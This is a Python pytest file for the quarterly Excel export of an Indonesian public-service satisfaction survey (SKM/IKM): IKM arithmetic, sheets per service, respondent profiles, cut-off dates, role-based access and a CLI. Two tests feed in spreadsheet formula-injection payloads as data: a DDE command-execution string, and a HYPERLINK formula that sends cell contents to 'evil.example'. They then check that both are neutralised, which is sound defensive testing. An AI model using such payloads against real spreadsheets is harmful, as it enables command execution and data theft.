"""`skm-triwulan`: the workbook's sums, NRR, weighted NRR and IKM are rules/ikm's on the same rows, as numbers;
a semester pools its responses; a sheet per layanan; the profile counts; the cut-off day; the legacy weighting
labelled; no formula and no permit number gets through; who downloads it; the CLI writes it."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
import sqlalchemy as sa

from tests.exports.reports import header_of, header_row, rows_of
from tests.factories import make_skm_response, make_skm_responses, make_user
from zi_public.exports import REPORT_ROLES, REPORTS, WrongPeriodKind, build_report, skm_triwulan
from zi_public.exports.document import in_language
from zi_public.extensions import db
from zi_public.models import AuditEntry, Layanan, Role
from zi_public.rules.ikm import ikm_from_answers
from zi_public.rules.periods import parse_period
from zi_public.rules.skm import UNSUR
from zi_public.rules.skm import Channel as SkmChannel
from zi_public.services.skm import follow_up, results
from zi_public.services.skm.follow_up import ItemInput
from zi_public.services.skm.population import set_population
from zi_public.services.skm.settings import set_legacy_weighting

NOW = datetime(2026, 11, 29, 3, 0, tzinfo=UTC)
Q3 = parse_period("2026-Q3")
#: A worked example: 5 respondents; sums 16 17 16 20 17 18 18 15 16 = 153; IKM = 153 / 45 × 25 = 85.00 (B, Baik);
#: with the legacy 0.111: 153 / 5 × 0.111 × 25 = 84.915 → 84.92.
WORKED = [
    (4, 4, 4, 4, 4, 4, 4, 4, 4),
    (3, 3, 3, 4, 3, 3, 3, 3, 3),
    (3, 4, 3, 4, 3, 4, 4, 3, 3),
    (2, 3, 3, 4, 3, 3, 3, 2, 3),
    (4, 3, 3, 4, 4, 4, 4, 3, 3),
]
WORKED_SUMS = (16, 17, 16, 20, 17, 18, 18, 15, 16)
DATA = "Data responden"


def open_book(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def table(ws) -> tuple[list[object], list[tuple], dict[str, tuple]]:
    """(headers, respondent rows, the rows under them by their label) of a data sheet."""
    headers = header_of(ws)
    rows = list(ws.iter_rows(min_row=header_row(ws) + 1, max_col=len(headers), values_only=True))
    respondents = []
    for row in rows:
        if not isinstance(row[0], int):
            break
        respondents.append(row)
    figures = {row[0]: row for row in rows[len(respondents) :] if isinstance(row[0], str)}
    return headers, respondents, figures


def rows_of_sheet(ws) -> list[tuple]:
    """A table's rows down to the first empty one (the signatures follow)."""
    return rows_of(ws)


def figure(figures: dict[str, tuple], label: str) -> tuple:
    return next(row for key, row in figures.items() if key.startswith(label))


def unsur(row: tuple) -> tuple:
    first = skm_triwulan.FIRST_UNSUR
    return row[first : first + len(UNSUR)]


@pytest.fixture
def worked(seeded, db):
    make_skm_responses(WORKED, on=date(2026, 8, 10))
    db.session.flush()


def test_the_data_sheet_computes_the_ikm_of_rules_ikm_as_numbers(worked):
    export = build_report("skm-triwulan", Q3, now=NOW)
    assert export.rows == 5
    book = open_book(export.content)
    assert book.sheetnames[:4] == ["Rekap IKM", DATA, "Profil responden", "Tindak lanjut"]
    ws = book[DATA]
    headers, respondents, figures = table(ws)
    assert headers[:3] == ["No.", "Tanggal", "Layanan"] and headers[skm_triwulan.FIRST_UNSUR] == "U1 Persyaratan"
    assert len(respondents) == 5
    assert [unsur(row) for row in respondents] == WORKED
    assert respondents[0][1] == datetime(2026, 8, 10) and respondents[0][2] == "Persetujuan Bangunan Gedung (PBG)"
    expected = ikm_from_answers(WORKED)
    assert unsur(figure(figures, "Jumlah nilai per unsur")) == WORKED_SUMS
    nrr = unsur(figure(figures, "NRR per unsur"))
    # Full precision in the cell (16 significant digits, as spreadsheets keep them); 3 decimals on screen.
    assert nrr == pytest.approx([expected.nrr[code] for code in UNSUR], rel=1e-15)
    assert nrr == (3.2, 3.4, 3.2, 4, 3.4, 3.6, 3.6, 3, 3.2)
    weighted = unsur(figure(figures, "NRR tertimbang (NRR × 1/9)"))
    assert weighted == pytest.approx([expected.nrr[code] / 9 for code in UNSUR], rel=1e-15)
    assert sum(weighted) * 25 == pytest.approx(85)
    ikm = figure(figures, "IKM")[skm_triwulan.FIRST_UNSUR]
    assert ikm == 85 and Decimal(str(ikm)) == expected.ikm == Decimal("85.00")
    assert figure(figures, "Mutu pelayanan")[skm_triwulan.FIRST_UNSUR] == "B"
    assert figure(figures, "Kinerja unit pelayanan")[skm_triwulan.FIRST_UNSUR] == "Baik"
    assert figure(figures, "Jumlah responden")[skm_triwulan.FIRST_UNSUR] == 5
    # Numbers are numbers, each with its number format.
    first_figure = header_row(ws) + len(respondents) + 2
    column = openpyxl.utils.get_column_letter(skm_triwulan.FIRST_UNSUR + 1)
    cells = {ws[f"A{row}"].value: ws[f"{column}{row}"] for row in range(first_figure, first_figure + 9)}
    assert cells["Jumlah nilai per unsur"].data_type == "n"
    assert cells["NRR per unsur (jumlah nilai : jumlah responden)"].number_format == "0.000"
    assert cells["IKM (jumlah NRR tertimbang × 25)"].number_format == "0.00"
    assert ws[f"{column}{header_row(ws) + 1}"].data_type == "n"


def test_the_recap_gives_the_results_of_the_public_page_with_the_sample(worked):
    make_skm_responses([(1,) * 9] * 2, layanan="slf", on=date(2026, 9, 1))
    pbg, slf = (db.session.scalar(sa.select(Layanan).where(Layanan.code == code)) for code in ("pbg", "slf"))
    set_population("test", 2026, 3, pbg, 6)  # Krejcie–Morgan: 6 served need 6 respondents; 5 answered
    set_population("test", 2026, 3, slf, 1)  # 1 needs 1; together 7 need 7
    book = open_book(build_report("skm-triwulan", Q3, now=NOW).content)
    ws = book["Rekap IKM"]
    rows = {row[0]: row for row in rows_of_sheet(ws)}
    overall = results.result(Q3, as_of=date(2026, 9, 30))
    everyone = rows["Semua layanan"]
    assert everyone[1] == 7 == overall.respondents
    assert everyone[2:11] == pytest.approx([overall.ikm.nrr[code] for code in UNSUR], rel=1e-15)
    assert Decimal(str(everyone[11])) == overall.ikm.ikm and everyone[12:14] == (overall.ikm.mutu, "Kurang Baik")
    assert everyone[14:] == (7, 7, "Ya") and overall.sample_sufficient
    assert rows["Persetujuan Bangunan Gedung (PBG)"][11] == 85
    assert rows["Persetujuan Bangunan Gedung (PBG)"][14:] == (6, 6, "Tidak")
    assert rows["Sertifikat Laik Fungsi (SLF)"][11:14] == (25, "D", "Tidak Baik")
    assert list(rows)[1:] == ["Persetujuan Bangunan Gedung (PBG)", "Sertifikat Laik Fungsi (SLF)"]
    assert (
        ws[f"L{header_row(ws) + 1}"].number_format == "0.00" and ws[f"C{header_row(ws) + 1}"].number_format == "0.000"
    )


def test_the_follow_up_items_as_they_stood(seeded, db):
    team = make_user(role=Role.SKM)
    q2 = parse_period("2026-Q2")
    pbg = ItemInput("U3", "Tambah loket PBG", "Kepala Bidang", date(2026, 9, 30), layanan="pbg")
    follow_up.create_item(team, q2, pbg, today=date(2026, 6, 30))
    carried_done = ItemInput("U9", "Perbaiki ruang tunggu", "Sekretariat", done_on=date(2026, 8, 20))
    follow_up.create_item(team, q2, carried_done, today=date(2026, 8, 20))
    old_done = ItemInput("U1", "Sederhanakan formulir", "Sekretariat", done_on=date(2026, 6, 1))
    follow_up.create_item(team, q2, old_done, today=date(2026, 6, 30))  # done before Q3: not in it
    # Q3's own plan, recorded in October after its results (today): still in the Q3 report as of 30 September.
    follow_up.create_item(team, Q3, ItemInput("U8", "=cmd|' /C calc'!A0", "Tim SKM"), today=date(2026, 10, 5))
    follow_up.create_item(team, parse_period("2026-Q4"), ItemInput("U2", "Triwulan IV", "Tim SKM"), today=NOW.date())
    db.session.flush()
    book = open_book(build_report("skm-triwulan", Q3, now=NOW).content)
    rows = rows_of_sheet(book["Tindak lanjut"])
    assert [row[4] for row in rows] == ["Tambah loket PBG", "Perbaiki ruang tunggu", "'=cmd|' /C calc'!A0"]
    loket, ruang, own = rows
    assert loket[:4] == ("Triwulan II 2026", "Ya", "U3 Waktu Penyelesaian", "Persetujuan Bangunan Gedung (PBG)")
    assert loket[6] == datetime(2026, 9, 30) and loket[10:] == ("Berjalan", None)
    assert ruang[3] == "Seluruh layanan" and ruang[10:] == ("Selesai", datetime(2026, 8, 20))
    assert own[:2] == ("Triwulan III 2026", "Tidak")
    # As of 31 July the carried item was not done yet.
    early = open_book(build_report("skm-triwulan", Q3, as_of=date(2026, 7, 31), now=NOW).content)
    early_rows = {row[4]: row for row in rows_of_sheet(early["Tindak lanjut"])}
    assert early_rows["Perbaiki ruang tunggu"][10:] == ("Berjalan", None)


def test_a_semester_pools_its_responses_never_averaging_quarterly_ikms(seeded, db):
    make_skm_responses([(4,) * 9], on=date(2026, 8, 10))  # Q3 alone: 100.00
    make_skm_responses([(2,) * 9] * 3, on=date(2026, 10, 15))  # Q4 alone: 50.00
    export = build_report("skm-triwulan", parse_period("2026-S2"), now=NOW)
    assert export.rows == 4
    book = open_book(export.content)
    _headers, respondents, figures = table(book[DATA])
    assert len(respondents) == 4
    # (4 + 3 × 2) / 4 = NRR 2.5 for every unsur → 62.50, not (100 + 50) / 2 = 75.
    assert figure(figures, "IKM")[skm_triwulan.FIRST_UNSUR] == 62.5
    assert figure(figures, "Mutu pelayanan")[skm_triwulan.FIRST_UNSUR] == "D"
    recap = {row[0]: row for row in rows_of_sheet(book["Rekap IKM"])}
    assert recap["Semua layanan"][1] == 4 and recap["Semua layanan"][11] == 62.5
    assert recap["Triwulan III 2026 (informasi)"][1:2] == (1,) and recap["Triwulan III 2026 (informasi)"][11] == 100
    assert recap["Triwulan IV 2026 (informasi)"][11] == 50
    year = open_book(build_report("skm-triwulan", parse_period("2026"), now=NOW).content)
    assert figure(table(year[DATA])[2], "IKM")[skm_triwulan.FIRST_UNSUR] == 62.5


def test_a_sheet_per_layanan_with_only_its_rows(seeded, db):
    make_skm_responses(WORKED, layanan="pbg", on=date(2026, 8, 10))
    make_skm_responses([(1,) * 9] * 2, layanan="slf", on=date(2026, 9, 1))
    book = open_book(build_report("skm-triwulan", Q3, now=NOW).content)
    assert book.sheetnames[4:] == ["Persetujuan Bangunan Gedung", "Sertifikat Laik Fungsi (SLF)"]
    _h, pbg, pbg_figures = table(book["Persetujuan Bangunan Gedung"])
    assert [unsur(row) for row in pbg] == WORKED and {row[2] for row in pbg} == {"Persetujuan Bangunan Gedung (PBG)"}
    assert figure(pbg_figures, "IKM")[skm_triwulan.FIRST_UNSUR] == 85
    _h, slf, slf_figures = table(book["Sertifikat Laik Fungsi (SLF)"])
    assert [row[0] for row in slf] == [1, 2] and unsur(figure(slf_figures, "Jumlah nilai")) == (2,) * 9
    assert figure(slf_figures, "IKM")[skm_triwulan.FIRST_UNSUR] == 25
    assert figure(slf_figures, "Mutu pelayanan")[skm_triwulan.FIRST_UNSUR] == "D"
    _h, everyone, figures = table(book[DATA])
    assert len(everyone) == 7
    expected = ikm_from_answers([*WORKED, (1,) * 9, (1,) * 9])
    assert unsur(figure(figures, "Jumlah nilai")) == tuple(s + 2 for s in WORKED_SUMS)
    assert Decimal(str(figure(figures, "IKM")[skm_triwulan.FIRST_UNSUR])) == expected.ikm


def test_the_profile_counts_and_shares(seeded, db):
    day = datetime(2026, 8, 3, 3, 0, tzinfo=UTC)
    people = [
        {"gender": "l", "age": 17, "education": "sma", "occupation": "pelajar", "vulnerable_group": "anak"},
        {"gender": "p", "age": 25, "education": "s1", "occupation": "swasta"},
        {
            "gender": "p",
            "age": 29,
            "education": "s1",
            "occupation": "wirausaha",
            "vulnerable_group": "ibu-hamil-menyusui",
        },
        {"gender": "l", "age": 66, "education": "sd", "occupation": "lainnya", "vulnerable_group": "lansia"},
    ]
    for person in people:
        make_skm_response(now=day, **person)
    make_skm_response(now=datetime(2026, 8, 4, 3, 0, tzinfo=UTC), channel=SkmChannel.KIOSK, gender="p", age=60)
    book = open_book(build_report("skm-triwulan", Q3, now=NOW).content)
    rows = rows_of_sheet(book["Profil responden"])
    counts = {(row[0], row[1]): (row[2], row[3]) for row in rows}
    assert counts[("Jumlah responden", None)] == (5, 1)
    assert counts[("Jenis kelamin", "Laki-laki")] == (2, 0.4) and counts[("Jenis kelamin", "Perempuan")] == (3, 0.6)
    assert counts[("Usia", "<20")] == (1, 0.2) and counts[("Usia", "20-29")] == (2, 0.4)
    assert counts[("Usia", "30-39")] == (0, 0) and counts[("Usia", "60+")] == (2, 0.4)
    assert counts[("Pendidikan", "D4/S1")] == (3, 0.6) and counts[("Pendidikan", "S3")] == (0, 0)
    assert counts[("Pekerjaan", "Pelajar/Mahasiswa")] == (1, 0.2)
    assert counts[("Kelompok rentan", "Lanjut usia")] == (1, 0.2)
    assert counts[("Kelompok rentan", "Bukan kelompok rentan / tidak diisi")] == (2, 0.4)
    assert counts[("Kanal", "Kios")] == (1, 0.2) and counts[("Kanal", "Web")] == (4, 0.8)
    for section in ("Jenis kelamin", "Usia", "Pendidikan", "Pekerjaan", "Kelompok rentan", "Kanal"):
        assert sum(n for (name, _label), (n, _share) in counts.items() if name == section) == 5, section
    ws = book["Profil responden"]
    assert ws[f"D{header_row(ws) + 1}"].number_format == "0.0%"


def test_the_report_stops_at_its_as_of_day(seeded, db):
    make_skm_responses([(4,) * 9], on=date(2026, 6, 30))  # Q2
    make_skm_responses([(3,) * 9], on=date(2026, 7, 1))
    make_skm_responses([(3,) * 9], on=date(2026, 8, 31))
    make_skm_responses([(1,) * 9], on=date(2026, 9, 1))  # after the cut-off
    make_skm_responses([(1,) * 9], on=date(2026, 10, 1))  # Q4
    export = build_report("skm-triwulan", Q3, as_of=date(2026, 8, 31), now=NOW)
    assert export.rows == 2 and export.as_of == date(2026, 8, 31)
    book = open_book(export.content)
    _h, respondents, figures = table(book[DATA])
    assert [row[1] for row in respondents] == [datetime(2026, 7, 1), datetime(2026, 8, 31)]
    assert figure(figures, "IKM")[skm_triwulan.FIRST_UNSUR] == 75
    assert book[DATA]["A4"].value == "Periode: Triwulan III 2026 (1 Juli 2026 s.d. 30 September 2026)"
    assert book[DATA]["A5"].value == "Keadaan per: 31 Agustus 2026"
    assert rows_of_sheet(book["Profil responden"])[0][2] == 2
    assert build_report("skm-triwulan", Q3, now=NOW).rows == 3


def test_the_legacy_weighting_is_an_option_and_says_so(worked):
    exact = open_book(build_report("skm-triwulan", Q3, now=NOW).content)[DATA]
    assert "Pembobotan: Bobot 1/9 per unsur (PermenPANRB 14/2017)" in [exact[f"A{n}"].value for n in range(1, 8)]
    set_legacy_weighting("test", True)  # the office's setting
    book = open_book(build_report("skm-triwulan", Q3, now=NOW).content)
    ws = book[DATA]
    details = [ws[f"A{n}"].value for n in range(1, 8)]
    assert "Pembobotan: Bobot lama 0,111 per unsur (nilai maksimum 99,90)" in details
    _h, _rows, figures = table(ws)
    weighted = unsur(figure(figures, "NRR tertimbang (NRR × 0,111)"))
    assert weighted == pytest.approx([s / 5 * 0.111 for s in WORKED_SUMS], rel=1e-15)
    assert figure(figures, "IKM")[skm_triwulan.FIRST_UNSUR] == 84.92  # 84.915 rounded half-up
    assert figure(figures, "Pembobotan")[skm_triwulan.FIRST_UNSUR].startswith("Bobot lama 0,111")
    assert "Bobot lama 0,111" in book["Rekap IKM"]["A3"].value
    # The option overrides the setting either way (what a comparison of both weightings asks for).
    with in_language("id"):
        again = skm_triwulan.build(Q3, as_of=date(2026, 9, 30), generated_at=NOW, lang="id", legacy=False)
    again = open_book(again.content)
    assert figure(table(again[DATA])[2], "IKM")[skm_triwulan.FIRST_UNSUR] == 85


def all_text(book) -> str:
    return "\n".join(
        str(value) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for value in row if value
    )


def test_suggestions_are_neutralised_and_permit_numbers_left_out(seeded, db):
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    day = datetime(2026, 8, 3, 3, 0, tzinfo=UTC)
    make_skm_response(now=day, suggestion=hostile, permit_number="PBG-3371-0001")
    make_skm_response(now=day, suggestion="+62 812 cepat sekali", permit_number="SLF 2026 77")
    make_skm_response(now=day, suggestion="Ruang tunggu nyaman.")
    book = open_book(build_report("skm-triwulan", Q3, now=NOW).content)
    ws = book[DATA]
    headers, respondents, _figures = table(ws)
    suggestions = [row[len(headers) - 1] for row in respondents]
    assert suggestions == ["'" + hostile, "'+62 812 cepat sekali", "Ruang tunggu nyaman."]
    column = openpyxl.utils.get_column_letter(len(headers))
    assert ws[f"{column}{header_row(ws) + 1}"].data_type == "s"
    text = all_text(book)
    assert "PBG-3371-0001" not in text and "SLF202677" not in text and "Nomor izin" not in headers


def test_an_empty_quarter_gives_the_sheets_with_no_ikm(seeded, db):
    export = build_report("skm-triwulan", Q3, now=NOW)
    assert export.rows == 0
    book = open_book(export.content)
    assert book.sheetnames == ["Rekap IKM", DATA, "Profil responden", "Tindak lanjut"]
    _h, respondents, figures = table(book[DATA])
    assert respondents == [] and figure(figures, "IKM")[skm_triwulan.FIRST_UNSUR] == "Belum ada responden"
    assert rows_of_sheet(book["Rekap IKM"])[0][:2] == ("Semua layanan", 0)


def test_a_month_is_refused_and_the_roles_are_the_tim_skm_and_pimpinan(seeded, db):
    with pytest.raises(WrongPeriodKind):
        build_report("skm-triwulan", parse_period("2026-08"), now=NOW)
    assert REPORTS["skm-triwulan"][1] == {"quarter", "semester", "year"}
    assert REPORT_ROLES["skm-triwulan"] == {Role.SKM, Role.PIMPINAN}


def test_the_english_report(worked):
    book = open_book(build_report("skm-triwulan", Q3, now=NOW, lang="en").content)
    assert book.sheetnames[:4] == ["IKM recap", "Respondents", "Respondent profile", "Follow-up"]
    _h, _rows, figures = table(book["Respondents"])
    assert figure(figures, "Service quality grade")[skm_triwulan.FIRST_UNSUR] == "B"


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize("role", [Role.SKM, Role.PIMPINAN])
def test_the_tim_skm_and_pimpinan_download_it_from_the_reports_page(app, client, login_as, role):
    with app.app_context():
        from zi_public.services.reference import seed_reference_data

        seed_reference_data()
        make_skm_responses(WORKED, on=date(2026, 8, 10))
        db.session.commit()
    login_as(role, username="pembaca")
    html = client.get("/internal/laporan").get_data(as_text=True)
    assert 'href="/internal/laporan"' in html and 'action="/internal/laporan/skm-triwulan.xlsx"' in html
    assert ("pengaduan-bulanan.xlsx" in html) == (role == Role.PIMPINAN)  # the Tim SKM sees only its report
    response = client.get("/internal/laporan/skm-triwulan.xlsx?period=2026-Q3")
    assert response.status_code == 200 and response.mimetype == XLSX
    assert response.headers["Content-Disposition"] == "attachment; filename=skm-triwulan-2026-Q3.xlsx"
    assert table(open_book(response.data)[DATA])[1][0][1] == datetime(2026, 8, 10)
    with app.app_context():
        entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "report.export"))
        assert (entry.actor, entry.target_id) == ("pembaca", "skm-triwulan")
    bad = client.get("/internal/laporan/skm-triwulan.xlsx?period=2026-08")
    assert bad.status_code == 400 and "Periode tidak valid" in bad.get_data(as_text=True)


@pytest.mark.parametrize("role", [Role.PENGADUAN, Role.WBS, Role.UPG, Role.ADMIN])
def test_other_roles_cannot_download_it(client, login_as, role):
    login_as(role)
    response = client.get("/internal/laporan/skm-triwulan.xlsx?period=2026-Q3")
    # A team with reports of its own finds no such report (404); a role with no reports page is refused (403).
    assert response.status_code == (404 if role in (Role.PENGADUAN, Role.UPG) else 403)
    if role in (Role.PENGADUAN, Role.UPG):
        assert "skm-triwulan" not in client.get("/internal/laporan").get_data(as_text=True)


def test_the_cli_writes_the_report(app, tmp_path):
    with app.app_context():
        from zi_public.services.reference import seed_reference_data

        seed_reference_data()
        make_skm_responses(WORKED, on=date(2026, 8, 10))
        db.session.commit()
    output = tmp_path / "skm.xlsx"
    args = ["report", "skm-triwulan", "--period", "2026-Q3", "--as-of", "2026-09-30", "-o", str(output)]
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    assert "(5 rows)" in result.output
    book = openpyxl.load_workbook(output)
    assert figure(table(book[DATA])[2], "IKM")[skm_triwulan.FIRST_UNSUR] == 85
